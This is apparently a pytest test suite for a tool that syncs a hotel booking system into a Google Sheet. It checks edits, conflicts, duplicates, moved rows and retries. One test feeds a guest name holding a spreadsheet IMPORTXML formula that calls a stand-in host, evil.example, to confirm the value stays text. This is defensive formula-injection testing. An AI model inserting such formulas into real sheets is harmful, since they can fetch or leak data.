"""The sheet follows the booking system, and people keep what is theirs."""

import pytest


def test_the_first_run_fills_an_empty_sheet_and_reports_it(town):
    done = town.run()
    rows, run = town.rows(), town.report()
    assert done.returncode == 0, done.stderr
    assert (len(rows), {row["sync_state"] for row in rows}) == (40, {"live"})
    assert (run.outcome, run.rows_read, run.added, run.changed) == ("changed", 40, 40, 0)


def test_the_second_run_reads_once_and_writes_nothing(filled):
    assert filled.run().returncode == 0
    assert filled.watched.calls == ["POST values:batchGetByDataFilter"]
    assert filled.report().outcome == "unchanged"


def test_a_preview_tells_the_plan_and_writes_nothing(town):
    done = town.run("--dry-run")
    assert done.returncode == 0
    assert done.stdout.count(": new row") == 40
    assert (town.writes(), town.reports()) == ([], ())


def test_what_changes_in_the_source_reaches_its_row_in_one_batch(filled):
    key = filled.rows()[3]["id"]
    filled.book(key, rate="321.50", guest="Ada")
    assert filled.run().returncode == 0
    row = filled.rows()[3]
    assert (row["id"], row["rate"], row["guest"]) == (key, 321.5, "Ada")
    write, deletes_the_copy = filled.writes()
    assert write == deletes_the_copy == f"POST {filled.sheet_id}:batchUpdate"


def test_a_booking_that_is_gone_is_marked_and_stays(filled):
    key = filled.rows()[5]["id"]
    filled.call("DELETE", f"{filled.bookings}/_local/bookings/{key}")
    assert filled.run().returncode == 0
    assert (filled.rows()[5]["id"], filled.rows()[5]["sync_state"]) == (key, "removed")
    assert filled.report().removed == 1


def test_an_edit_by_a_person_and_their_own_column_stay(filled):
    filled.person(range="Bookings!D3", value="Countess Ada")
    filled.person(range="Bookings!P1", value="note")
    filled.person(range="Bookings!P3", value="likes the sea")
    filled.book(filled.rows()[1]["id"], rate="99")
    assert filled.run().returncode == 0
    row = filled.rows()[1]
    assert (row["guest"], row["note"], row["rate"]) == ("Countess Ada", "likes the sea", 99)


def test_an_edit_is_undone_where_the_setting_says_restore(filled):
    before = filled.rows()
    filled.configure(edits="restore")
    filled.person(range="Bookings!D3", value="Countess Ada")
    assert filled.run().returncode == 0
    assert filled.rows() == before


def test_a_conflict_tells_its_loser(filled):
    key = filled.rows()[0]["id"]
    filled.person(range="Bookings!N2", value="1")
    filled.book(key, rate="2")
    done = filled.run()
    assert f"conflict: booking {key}, rate: source 2, sheet 1; the source's was written" in done.stdout
    assert (filled.rows()[0]["rate"], filled.report().conflicts) == (2, 1)


def test_a_day_that_a_person_types_anew_is_the_same_day(filled):
    filled.person(range="Bookings!E2", value=filled.rows()[0]["arrival"])
    assert isinstance(filled.rows()[0]["arrival"], int)  # Sheets made it a date
    assert "edited by a user" not in filled.run().stdout


def test_people_may_move_rows_and_columns(filled):
    filled.insert_row(1)
    span = {"sheetId": 0, "dimension": "COLUMNS", "startIndex": 2, "endIndex": 3}
    filled.person(requests=[{"insertDimension": {"range": span}}])
    filled.book(filled.rows()[1]["id"], rate="7.25")
    assert filled.run().returncode == 0
    assert [row.get("rate") for row in filled.rows()[:2]] == [None, 7.25]


def test_a_row_inserted_between_our_reading_and_our_writing_damages_nothing(filled):
    before = filled.rows()
    filled.book(before[5]["id"], rate="555", guest="Moved")
    filled.watched.before_write = lambda: filled.insert_row(2)
    assert filled.run().returncode == 0
    wanted = [*before[:5], {**before[5], "rate": 555, "guest": "Moved"}, *before[6:]]
    assert [row for row in filled.rows() if row] == wanted


def test_a_guest_whose_name_looks_like_a_formula_stays_text(filled):
    filled.book(filled.rows()[0]["id"], guest='=IMPORTXML("http://evil.example", "//a")')
    assert filled.run().returncode == 0
    assert filled.rows()[0]["guest"].startswith("=IMPORTXML(")
    assert filled.run().returncode == 0
    assert filled.report().outcome == "unchanged"


def test_a_copied_row_is_marked_as_a_duplicate(filled):
    first = filled.rows()[0]
    for column, value in zip("ABC", (first["id"], first["hotel"], first["room_type"]), strict=True):
        filled.person(range=f"Bookings!{column}42", value=value)
    assert filled.run().returncode == 0
    assert [row["sync_state"] for row in filled.rows() if row["id"] == first["id"]] == ["live", "duplicate"]


@pytest.mark.parametrize("after", [True, False])
def test_an_ambiguous_answer_to_a_write_is_followed_by_reading(filled, after):
    filled.book(filled.rows()[0]["id"], rate="88")
    filled.watched.calls.clear()
    fault = {"on": "sheets", "error": "UNAVAILABLE", "times": 1, "after": after}
    filled.watched.before_write = lambda: filled.fault(filled.google, **fault)
    assert filled.run().returncode == 0
    assert filled.rows()[0]["rate"] == 88
    # Carried out: its copy is judged and deleted. Not carried out: it is sent again.
    kinds = [call.rpartition(":")[2] for call in filled.watched.calls if ":" in call]
    assert ("getByDataFilter" in kinds) == after
